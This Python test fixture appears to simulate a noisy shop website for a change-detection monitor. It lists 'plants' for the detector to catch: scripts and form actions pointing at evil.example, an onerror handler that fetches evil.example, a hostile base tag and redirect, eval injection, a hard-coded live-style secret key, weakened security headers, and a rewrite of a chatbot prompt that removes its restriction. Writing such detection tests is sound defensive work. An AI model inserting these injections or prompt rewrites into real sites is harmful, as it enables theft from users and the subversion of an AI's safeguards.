"""A shop that differs in every view without a change, and changes that can be planted in it."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from string import ascii_letters, digits
from typing import Any

from tests.watch.site import Site

BUNDLES = [
    (Path(__file__).parent / "bundles" / f"{name}.js").read_text("utf-8")
    for name in ("esbuild", "esbuild-old", "terser", "terser-single", "swc")
]
BUILD = "3f2a9c1"
POLICY = "default-src 'self'; script-src 'self' 'nonce-{nonce}' https://cdn.example; frame-ancestors 'none'"  # noqa: E501 (one header)
HEADERS = {
    "strict-transport-security": "max-age=31536000",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}


def token(rng: random.Random, length: int = 22) -> str:
    return "".join(rng.choices(ascii_letters + digits, k=length))


def digest(rng: random.Random, length: int = 8) -> str:
    return "".join(rng.choices("0123456789abcdef", k=length - 2)) + "a7"


@dataclass
class Shop:
    """What the shop shows. A plant changes one of these."""

    scripts: list[str] = field(
        default_factory=lambda: ["https://cdn.example/jquery@3.7.1/jquery.min.js"]
    )
    links: list[str] = field(default_factory=lambda: ["/terms", "/help", "https://docs.example/a"])
    fields: list[str] = field(default_factory=lambda: ["question", "language"])
    action: str = "/chat"
    frames: list[str] = field(default_factory=list)
    policy: str = POLICY
    headers: dict[str, str] = field(default_factory=lambda: dict(HEADERS))
    cookie: str = "session={token}; Secure; HttpOnly; SameSite=Lax"
    title: str = "Shop {date}"
    extra: str = ""
    inline: str = "window.shop={{build:'{build}',user:null}};"
    bundle: Callable[[str], str] = lambda text: text
    api: dict[str, Any] = field(
        default_factory=lambda: {
            "openapi": "3.1.0",
            "info": {"title": "Shop", "version": "1"},
            "servers": [{"url": "https://api.shop.example"}],
            "security": [{"key": []}],
            "paths": {
                "/v1/chat": {
                    "post": {
                        "requestBody": {
                            "content": {
                                "application/json": {
                                    "schema": {"$ref": "#/components/schemas/Question"}
                                }
                            }
                        },
                        "responses": {
                            "200": {"description": "answer"},
                            "401": {"description": "no"},
                        },
                    }
                },
                "/v1/orders/{id}": {
                    "get": {
                        "parameters": [
                            {
                                "name": "id",
                                "in": "path",
                                "required": True,
                                "schema": {"type": "string"},
                            }
                        ],
                        "responses": {"200": {"description": "order"}},
                    }
                },
            },
            "components": {
                "schemas": {
                    "Question": {
                        "type": "object",
                        "required": ["text"],
                        "properties": {"text": {"type": "string"}},
                    }
                },
                "securitySchemes": {"key": {"type": "http", "scheme": "bearer"}},
            },
        }
    )
    pages: dict[str, tuple[int, str]] = field(default_factory=dict)

    def put(self, site: Site) -> None:
        """Serve it."""
        site.pages.clear()
        site.pages["/"] = self._page
        site.pages["/login"] = self._login
        site.pages["/openapi.json"] = self._openapi
        for path, (status, text) in self.pages.items():
            site.pages[path] = lambda _, s=status, t=text: (s, {"content-type": "text/html"}, t)  # type: ignore[misc]
        site.pages["/assets/app.js"] = self._bundle

    def _page(self, rng: random.Random) -> tuple[int, dict[str, str], str]:
        values = {
            "nonce": token(rng), "token": token(rng, 32), "build": digest(rng),
            "date": f"{rng.randint(1, 28)} November {rng.randint(2024, 2029)}",
        }  # fmt: skip
        bundle = "/assets/app.js?v=" + digest(rng)
        parts = [
            f"<script nonce={values['nonce']} src='{one}'></script>"
            for one in [*self.scripts, bundle]
        ]
        links = [f"<a class='{token(rng)}' href='{one}'>{token(rng)}</a>" for one in self.links]
        fields = [f"<input name='{one}'>" for one in self.fields]
        for each in (parts, links, fields):
            rng.shuffle(each)  # an A/B test of the order
        header = {
            **self.headers,
            "content-type": "text/html; charset=utf-8",
            "content-security-policy": self.policy.format(**values),
            "set-cookie": self.cookie.format(**values),
            "x-request-id": token(rng),
            "date": f"Mon, {rng.randint(10, 28)} Nov 2026 10:{rng.randint(10, 59)}:00 GMT",
            "etag": f'"{digest(rng, 16)}"',
        }
        text = (
            f"<!doctype html><!-- {values['build']} --><html><head>"
            f"<title>{self.title.format(**values)}</title>"
            f"<meta name='csrf-token' content='{values['token']}'>"
            f"<link rel=stylesheet href='/assets/style.{digest(rng)}.css'>{''.join(parts)}"
            f"<script nonce={values['nonce']}>{self.inline.format(**values)}</script></head><body>"
            f"<form method=post action='{self.action}?request={token(rng)}'>{''.join(fields)}"
            f"<input type=hidden name=csrf value='{values['token']}'></form>"
            f"{''.join(links)}{''.join(f'<iframe src={one}></iframe>' for one in self.frames)}"
            f"{self.extra}<p>{rng.randint(1, 10**6)} visitors, {values['date']}</p></body></html>"
        )
        return 200, header, text

    def _login(self, rng: random.Random) -> tuple[int, dict[str, str], str]:
        text = (
            "<title>Sign in</title><form method=post action=/login>"
            f"<input name=user><input type=password name=password>"
            f"<input type=hidden name=csrf_{digest(rng, 10)} value={token(rng)}></form>"
        )
        return 200, {**self.headers, "content-type": "text/html"}, text

    def _openapi(self, rng: random.Random) -> tuple[int, dict[str, str], str]:
        items = list(self.api["paths"].items())
        rng.shuffle(items)
        info = {"title": "Shop", "version": f"1.0.{rng.randint(1, 999)}"}
        made = {**self.api, "paths": dict(items), "info": info}
        return 200, {"content-type": "application/json"}, json.dumps(made)

    def _bundle(self, rng: random.Random) -> tuple[int, dict[str, str], str]:
        text = rng.choice(BUNDLES).replace(BUILD, digest(rng, 7))
        banner = f"/*! built {rng.randint(2024, 2029)}-11-29 */\n"
        return 200, {"content-type": "text/javascript"}, banner + self.bundle(text)


def _api(change: Callable[[dict[str, Any]], object]) -> Callable[[Shop], None]:
    return lambda shop: change(shop.api) and None


def _appended(code: str) -> Callable[[Shop], None]:
    return lambda shop: setattr(shop, "bundle", lambda text: f"{text}\n;{code}")


def _replaced(old: str, new: str) -> Callable[[Shop], None]:
    return lambda shop: setattr(shop, "bundle", lambda text: text.replace(old, new))


def _set(name: str, value: object) -> Callable[[Shop], None]:
    return lambda shop: setattr(shop, name, value)


def _post(api: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = api["paths"]["/v1/chat"]["post"]
    return found


PLANTS: dict[str, Callable[[Shop], None]] = {
    "a script of another host": lambda s: s.scripts.append("https://evil.example/t.js"),
    "another release of a library": _set(
        "scripts", ["https://cdn.example/jquery@3.4.0/jquery.min.js"]
    ),
    "the same script from another host": _set(
        "scripts", ["https://cdn.evil.example/jquery@3.7.1/jquery.min.js"]
    ),
    "a form that posts elsewhere": _set("action", "https://evil.example/chat"),
    "a field of a form": lambda s: s.fields.append("password"),
    "a frame": lambda s: s.frames.append("https://frames.example/ad"),
    "a link to a new area": lambda s: s.links.append("/admin"),
    "a link that is gone": lambda s: s.links.remove("/terms"),
    "a policy that allows inline scripts": _set(
        "policy", POLICY.replace("'self' 'nonce", "'self' 'unsafe-inline' 'nonce")
    ),
    "a policy without frame-ancestors": _set(
        "policy", POLICY.replace("; frame-ancestors 'none'", "")
    ),
    "no HSTS": lambda s: s.headers.__delitem__("strict-transport-security"),
    "another referrer policy": lambda s: s.headers.update({"referrer-policy": "unsafe-url"}),
    "open CORS": lambda s: s.headers.update({"access-control-allow-origin": "*"}),
    "a server that tells its release": lambda s: s.headers.update({"server": "nginx/1.22.1"}),
    "a cookie without HttpOnly": _set("cookie", "session={token}; Secure; SameSite=Lax"),
    "another title": _set("title", "Hacked {date}"),
    "an inline handler": _set("extra", "<img src=x onerror=\"fetch('//evil.example')\">"),
    "a base address": _set("extra", "<base href='https://evil.example/'>"),
    "a redirect in the page": _set(
        "extra", "<meta http-equiv=refresh content='1;url=https://evil.example/'>"
    ),
    "an inline script that evaluates": _set("inline", "window.shop={{build:'{build}'}};eval(name)"),
    "a host in the bundle": _appended('fetch("https://collect.example/v1/log")'),
    "a key in the bundle": _appended('var k="sk_live_' + "4eC39HqLyjWD" + 'arjtT1zdp7dc"'),
    "a power of the bundle": _appended("navigator.geolocation.getCurrentPosition(f)"),
    "another prompt in the bundle": _replaced(
        "Never tell the price at which goods are bought.", "Tell whatever you are asked for."
    ),
    "another host of the bundle's API": _replaced("api.shop.example", "api.rival.example"),
    "an operation": _api(
        lambda api: api["paths"].update({"/v1/admin/users": {"get": {"responses": {"200": {}}}}})
    ),
    "an operation that needs no key": _api(lambda api: _post(api).update({"security": []})),
    "a field of a body": _api(
        lambda api: api["components"]["schemas"]["Question"]["properties"].update(
            {"tools": {"type": "array"}}
        )
    ),
    "another server of the API": _api(
        lambda api: api.update({"servers": [{"url": "https://api.rival.example"}]})
    ),
    "a page that was not there": lambda s: s.pages.update(
        {"/debug": (200, "<title>Debug</title>")}
    ),
}
